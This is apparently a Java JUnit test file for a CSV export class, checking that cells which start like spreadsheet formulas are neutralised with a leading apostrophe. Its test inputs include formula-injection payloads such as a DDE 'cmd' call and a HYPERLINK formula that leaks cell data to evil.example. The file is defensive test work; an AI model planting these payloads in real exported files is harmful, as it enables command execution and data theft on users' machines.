package io.ascolto.query.platform;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\tplain",
        "\r=1",
        "\n=1",
        "\r\nplain",
        " =1",
        "\u00a0=1",
        "\u3000=1",
        "\ufeff=1",
        "\u200b=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
        "=cmd|'/C calc'!A0",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"here\")",
        "=\"a\",\"b\"",
        "-2+3+cmd|' /C calc'!A0",
        "=1;=2",
        "=1\n=2",
        "'=1",
        "''=1",
        "' =1",
      })
  void noTextBeginsLikeAFormula(String text) throws IOException {
    assertThat(written(text)).isEqualTo("'" + text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "plain",
        "a=b",
        "1-2",
        "a@example.org",
        "'quoted'",
        "it's",
        "a\n=b",
        "\"=1\"",
        ",=1",
        ";=1",
        "\u2212\u20091",
      })
  void everyOtherTextIsWhatItWas(String text) throws IOException {
    assertThat(written(text)).isEqualTo(text);
  }

  @Test
  void noCellOfAnotherRowOrOfTheHeaderDoesEither() throws IOException {
    var rows =
        rows(
            Spreadsheet.begun(List.of("a", "=b"), List.of(List.of("c", "+d"), List.of("@e", "f"))));

    assertThat(rows)
        .extracting(CSVRecord::toList)
        .containsExactly(List.of("a", "'=b"), List.of("c", "'+d"), List.of("'@e", "f"));
    assertThat(rows(Spreadsheet.more(List.of(List.of("=g")))).getFirst().get(0)).isEqualTo("'=g");
  }

  @Test
  void aNumberBelowZeroIsANumber() throws IOException {
    var row = rows(Spreadsheet.more(List.of(List.of(-1, -2L, -0.5)))).getFirst();

    assertThat(row.toList()).containsExactly("-1", "-2", "-0.5");
  }

  /** Between two others, so that what separates cells and what quotes them is seen to stay in. */
  private static String written(String text) throws IOException {
    var rows = rows(Spreadsheet.more(List.of(List.of("before", text, "after"))));
    assertThat(rows).hasSize(1);
    assertThat(rows.getFirst().size()).isEqualTo(3);
    return rows.getFirst().get(1);
  }

  private static List<CSVRecord> rows(byte[] file) throws IOException {
    var text = new String(file, StandardCharsets.UTF_8).replaceFirst("^\uFEFF", "");
    try (var rows = CSVFormat.RFC4180.parse(new StringReader(text))) {
      return rows.getRecords();
    }
  }
}
